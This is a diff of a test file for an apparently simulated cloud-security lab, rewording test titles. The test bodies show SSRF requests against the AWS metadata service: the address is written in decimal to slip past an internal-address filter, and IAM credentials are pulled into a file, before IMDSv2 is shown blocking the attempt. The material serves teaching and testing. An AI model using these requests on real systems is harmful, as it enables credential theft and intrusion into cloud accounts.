@@ -4,7 +4,7 @@ import { awsWorld, azureWorld, TestShell } from '../../test/worlds.ts'
 const shell = () => new TestShell(awsWorld)
 const ROLE = 'latest/meta-data/iam/security-credentials'
 
-test('the metadata service answers nobody at the learner’s desk', async () => {
+test('the metadata service does not answer the learner’s own machine', async () => {
   expect(await shell().run('curl -s -S http://169.254.169.254/latest/meta-data/')).toMatchObject({
     exit: 28,
     output: 'curl: (28) Failed to connect to 169.254.169.254 port 80: Connection timed out\n',
@@ -16,7 +16,7 @@ test('the metadata service answers nobody at the learner’s desk', async () => 
   ).toContain('timed out')
 })
 
-test('the preview refuses what looks internal, and fetches the same address in another writing', async () => {
+test('the preview rejects internal-looking addresses, and fetches the same address in another notation', async () => {
   const one = shell()
   expect(await one.prints(`curl -s "http://198.51.100.7/preview?url=http://169.254.169.254/" | jq -r .error`)).toBe(
     'this address looks internal',
@@ -31,7 +31,7 @@ test('the preview refuses what looks internal, and fetches the same address in a
     ]).toEqual([host, 'report-box'])
 })
 
-test('credentials that the preview gives away read what the machine may read', async () => {
+test('credentials leaked by the preview have the permissions of the machine', async () => {
   const one = shell()
   await one.run(
     `curl -s "http://198.51.100.7/preview?url=http://2852039166/${ROLE}/report-box" | jq -r .preview > keys`,
@@ -49,7 +49,7 @@ test('credentials that the preview gives away read what the machine may read', a
   })
 })
 
-test('where version two is required the same forged request gets a 401: it cannot send a PUT or a header', async () => {
+test('with version two required, the same forged request gets a 401: it cannot send a PUT or a header', async () => {
   const one = shell()
   expect(
     await one.prints(
